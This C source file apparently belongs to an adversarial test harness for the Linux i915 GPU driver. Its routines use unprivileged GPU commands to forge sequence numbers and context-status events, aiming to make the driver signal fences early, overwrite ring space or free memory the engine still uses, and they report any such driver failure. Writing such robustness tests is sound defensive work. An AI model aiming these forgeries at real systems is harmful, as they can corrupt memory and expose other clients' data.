// SPDX-License-Identifier: MIT
/**
 * DOC: Forged seqnos and context events
 *
 * MI_STORE_DATA_INDEX writes the context's or the engine's status page without any privilege (DG1 Vol 2a,
 * "MI_STORE_DATA_INDEX"; bit 21 chooses the page), as do PIPE_CONTROL and MI_FLUSH_DW with "Store Data Index". The
 * batches forge seqnos: a driver that believes them signals fences while the batch runs, and reuses ring space that the
 * engine still reads. Or they forge context status events: a driver that believes them frees memory that the engine
 * still uses.
 */
#include <errno.h>
#include <signal.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/time.h>
#include <unistd.h>

#include <linux/sync_file.h>

#include "attack.h"

#define AT		(256ull << 20)
#define RESULT		(512ull << 20)
#define FORGED		0x00100000u		/* above every seqno that the driver has reached, and not 2^31 above */
#define CSB_ENTRY	0x40			/* in the engine's status page (KBL Vol 3, "Context Status") */
#define CSB_WRITE_PTR	0x7c
#define FORMS		4
#define MANY		400			/* requests that a ring of 16 KB does not hold */

static void on_alarm(int number)
{
	(void)number;
}

/* Has calls that block return with EINTR, again and again. */
static void alarm_every(unsigned int ms)
{
	const struct sigaction action = { .sa_handler = on_alarm };
	const struct itimerval timer = {
		.it_value.tv_usec = ms * 1000, .it_interval.tv_usec = ms * 1000
	};

	sigaction(SIGALRM, &action, NULL);
	setitimer(ITIMER_REAL, &timer, NULL);
}

/* A store into a status page, in one of the forms that there are. */
static void index_store(struct it_batch *b, unsigned int form, bool own, uint32_t offset, uint32_t value)
{
	switch (form) {
	case 0:
		it_emit(b, MI_STORE_DATA_INDEX | (own ? MI_SDX_PPHWSP : 0));
		it_emit(b, offset);
		it_emit(b, value);
		break;
	case 1:
		it_emit(b, PIPE_CONTROL);
		it_emit(b, PIPE_CONTROL_CS_STALL | PIPE_CONTROL_WRITE_QW | PIPE_CONTROL_STORE_INDEX |
			   (own ? 0 : PIPE_CONTROL_GGTT));
		it_emit(b, offset & ~7u);
		it_emit(b, 0);
		it_emit(b, value);
		it_emit(b, value);
		break;
	default:
		it_emit(b, MI_FLUSH_DW | MI_FLUSH_DW_STORE_INDEX | MI_FLUSH_DW_WRITE_QW);
		it_emit(b, (offset & ~7u) | (own ? 0 : MI_FLUSH_DW_GGTT));
		it_emit(b, 0);
		it_emit(b, value);
		it_emit(b, value);
		break;
	}
}

/* The render engine has PIPE_CONTROL, the others MI_FLUSH_DW. */
static unsigned int roll_form(struct attacker *a, unsigned int ring)
{
	return attack_roll(a, 2) ? 0 : ring ? 2 : 1;
}

struct forger {
	int fd;
	uint32_t ctx;
	struct it_bo page;		/* dword 0 opens the gate; the batch stores dword 1 at its end */
	struct it_batch batch;
};

static int forger_begin(struct forger *f)
{
	int ret = it_ctx_make(f->fd, &f->ctx) ?: it_bo_make(f->fd, ATTACK_PAGE, RESULT, &f->page) ?:
		  it_batch_make(f->fd, 16 * ATTACK_PAGE, AT, &f->batch);

	return ret;
}

static void forger_end(struct forger *f)
{
	if (f->page.map)
		f->page.dw[0] = 1;
	it_batch_drop(&f->batch);
	it_bo_drop(&f->page);
	if (f->ctx)
		it_ctx_drop(f->fd, f->ctx);
	f->ctx = 0;
}

/* A batch that the driver has stopped completes, too, and stores nothing; its fence then has an error. */
static bool was_stopped(int fence)
{
	struct sync_file_info info = { 0 };

	return ioctl(fence, SYNC_IOC_FILE_INFO, &info) || info.status < 0;
}

/* More requests than the ring has room for, while its head stands still. */
static void fill_ring(struct attacker *a, struct forger *f, unsigned int ring, int fence)
{
	unsigned int taken = 0;
	int ret;

	do {
		ret = attack_submit(f->fd, f->ctx, attack_rings[ring], &f->batch, &f->page, 1);
	} while (!ret && ++taken < MANY);
	attack_count(a, ret);
	if (taken == MANY && !f->page.dw[1] && !was_stopped(fence))
		attack_broken(a, "a ring whose head does not move has taken %u requests", taken);
}

/* Stores a seqno everywhere in a status page, then waits for the gate: no wait may return before. */
static void forge_seqno(struct attacker *a, struct forger *f, bool fill)
{
	unsigned int ring = attack_roll(a, ATTACK_RINGS), form = roll_form(a, ring);
	bool own = attack_roll(a, 4);
	int ret = forger_begin(f), fence;

	for (uint32_t at = own ? 0 : 0x80; at < ATTACK_PAGE && !ret; at += form ? 8 : 4)
		index_store(&f->batch, form, own, at, FORGED);
	it_emit_gate(&f->batch, f->page.address);
	it_emit_store(&f->batch, f->page.address + 4, 1);
	it_emit_end(&f->batch);
	fence = ret ?: attack_count(a, attack_submit(f->fd, f->ctx, attack_rings[ring] | I915_EXEC_FENCE_OUT,
						     &f->batch, &f->page, 1));
	if (fence >= 0) {
		struct drm_i915_gem_wait wait = { .bo_handle = f->batch.bo->handle, .timeout_ns = 200000000 };

		usleep(20000);
		if (!attack_ioctl(f->fd, DRM_IOCTL_I915_GEM_WAIT, &wait) && !f->page.dw[1] && !was_stopped(fence))
			attack_broken(a, "a wait has returned before the batch on engine %u has ended", ring);
		if (fill)
			fill_ring(a, f, ring, fence);
		close(fence);
	}
	forger_end(f);
}

static void seqno(struct attacker *a)
{
	struct forger f = { .fd = it_open_fd() };

	alarm_every(50);
	for (;;)
		forge_seqno(a, &f, false);
}

static void inject(struct attacker *a)
{
	struct forger f = { .fd = it_open_fd() };

	alarm_every(50);
	for (;;)
		forge_seqno(a, &f, true);
}

/* Random words, at full rate, where events and seqnos are. */
static void garbage(struct attacker *a)
{
	struct forger f = { .fd = it_open_fd() };
	bool idle = false;

	for (unsigned int n = 0; ; n++) {
		unsigned int ring = attack_roll(a, 2);

		/* A batch that may still be read is not written: its engine may not have the new commands. */
		if (!(n % 32) || !idle) {
			forger_end(&f);
			idle = !forger_begin(&f);
			if (!idle)
				continue;
		}
		f.batch.n = 0;
		for (unsigned int i = 0; i < 8; i++) {
			bool own = !attack_roll(a, 4);
			uint32_t offset = own ? attack_roll(a, 1024) * 4 : CSB_ENTRY + attack_roll(a, 16) * 4;
			uint32_t value = attack_roll(a, 8) ? 1u << attack_roll(a, 16) : attack_roll(a, 6);

			index_store(&f.batch, roll_form(a, ring), own, offset, value);
		}
		it_emit_end(&f.batch);
		attack_count(a, attack_submit(f.fd, f.ctx, attack_rings[ring], &f.batch, &f.page, 1));
		idle = !it_bo_wait(f.batch.bo, 1000000000);
	}
}

/*
 * The batch forges one event, behind the last true one, that says that its own context has completed. Then the client
 * destroys the context and its address space while the engine is still in the batch. If the driver believed the event,
 * the engine would fetch its next commands from pages that may belong to other clients by then.
 */
static void event(struct attacker *a)
{
	struct forger f = { .fd = it_open_fd() };

	for (unsigned int round = 0; ; round++) {
		unsigned int ring = attack_roll(a, 2) ? 0 : 2;
		uint32_t base = attack_ring_base(ring), data[GEN9_CSB_ENTRIES], pointer_at;
		struct it_batch *b = &f.batch;

		if (forger_begin(&f))
			continue;
		/* The batch writes the context's id into its own commands. */
		for (unsigned int i = 0; i < GEN9_CSB_ENTRIES; i++)
			data[i] = 0;
		for (unsigned int pass = 0; pass < 2; pass++) {
			b->n = 0;
			it_emit_store_reg(b, f.page.address + 8, RING_CTX_STATUS_PTR(base));
			for (unsigned int i = 0; i < GEN9_CSB_ENTRIES; i++)
				it_emit_store_reg(b, AT + 4 * data[i], RING_EXECLIST_STATUS_HI(base));
			/* The next pointer comes from the CPU. */
			it_emit_store(b, f.page.address + 12, 1);
			it_emit_gate(b, f.page.address);
			for (unsigned int i = 0; i < GEN9_CSB_ENTRIES; i++) {
				index_store(b, 0, false, CSB_ENTRY + 8 * i, CSB_CONTEXT_COMPLETE);
				index_store(b, 0, false, CSB_ENTRY + 8 * i + 4, 0);
				data[i] = b->n - 1;
			}
			for (uint32_t at = 0x80; round & 1 && at < 0x400; at += 4)
				index_store(b, 0, true, at, FORGED);
			index_store(b, 0, false, CSB_WRITE_PTR, 0);
			pointer_at = b->n - 1;
			it_emit_endless(b);
		}
		attack_count(a, attack_submit(f.fd, f.ctx, attack_rings[ring], b, &f.page, 1));
		for (unsigned int ms = 0; ms < 2000 && !((volatile uint32_t *)f.page.dw)[3]; ms++)
			usleep(1000);
		b->bo->dw[pointer_at] = ((f.page.dw[2] & CTX_STATUS_PTR_WRITE_MASK) + 1) % GEN9_CSB_ENTRIES;
		forger_end(&f);
		/* Takes what was freed, and fills it. */
		for (unsigned int i = 0; i < 32; i++) {
			struct it_bo o;

			if (it_bo_make(f.fd, 16 * ATTACK_PAGE, 0, &o))
				continue;
			memset(o.map, 0xff, o.size);
			it_bo_drop(&o);
		}
	}
}

const struct attack attacks_forge[] = {
	{ "forge-seqno", 1, 0, seqno },
	{ "forge-ring", 1, 0, inject },
	{ "forge-garbage", 1, 0, garbage },
	{ "forge-event", 1, 0, event },
	{ 0 }
};
